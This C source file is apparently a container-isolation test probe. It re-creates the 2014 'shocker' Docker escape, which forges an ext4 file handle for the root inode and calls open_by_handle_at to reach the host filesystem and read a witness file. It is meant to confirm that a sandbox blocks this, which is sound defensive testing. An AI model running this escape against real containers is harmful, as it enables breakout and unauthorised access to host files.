/*
 * The "shocker" attack (2014, against Docker): open_by_handle_at(2) opens a file from a handle
 * (filesystem-specific bytes, here ext4's {inode, generation}) without resolving any path, so a
 * forged handle for inode 2 gives the root directory of the filesystem behind any bind, and from it
 * every file on the host's disk.
 *
 * Must fail inside: open_by_handle_at needs CAP_DAC_READ_SEARCH in the initial user namespace,
 * which no process in a child user namespace can hold (and the default seccomp filter does not
 * allow name_to_handle_at or open_by_handle_at). Outside, as root, the same forged handle opens the
 * filesystem's root and the witness under it.
 *
 * Usage: fs_open_by_handle MOUNTED_DIR WITNESS_RELATIVE_TO_THE_FS_ROOT
 */
#include "hostile.h"

#include <fcntl.h>
#include <stdint.h>

#define FILEID_INO32_GEN 1
#define EXT4_ROOT_INO 2

int main(int argc, char **argv)
{
    if (argc != 3) {
        broken("usage", EINVAL);
    }
    struct file_handle *fh = malloc(sizeof *fh + MAX_HANDLE_SZ);
    if (fh == NULL) {
        broken("malloc", ENOMEM);
    }
    fh->handle_bytes = MAX_HANDLE_SZ;
    int mount_id;
    if (name_to_handle_at(AT_FDCWD, argv[1], fh, &mount_id, 0) < 0) {
        blocked("name_to_handle_at", errno);
    } else {
        note("name_to_handle_at", "type %d, %u bytes", fh->handle_type, fh->handle_bytes);
    }
    /* Forge the handle of the filesystem's root: ext4's FILEID_INO32_GEN {inode 2, generation 0}. */
    fh->handle_type = FILEID_INO32_GEN;
    fh->handle_bytes = 8;
    uint32_t forged[2] = { EXT4_ROOT_INO, 0 };
    memcpy(fh->f_handle, forged, sizeof forged);

    int mount_fd = open(argv[1], O_RDONLY | O_DIRECTORY);
    if (mount_fd < 0) {
        broken("open-mount", errno);
    }
    int root = open_by_handle_at(mount_fd, fh, O_RDONLY | O_DIRECTORY);
    if (root < 0) {
        blocked("open_by_handle_at", errno);
        return verdict();
    }
    note("open_by_handle_at", "opened the filesystem's root directory");
    int w = openat(root, argv[2], O_RDONLY);
    if (w < 0) {
        blocked("read-witness", errno);
    } else {
        worked("read-witness", "reached %s from the filesystem's root", argv[2]);
        close(w);
    }
    close(root);
    return verdict();
}
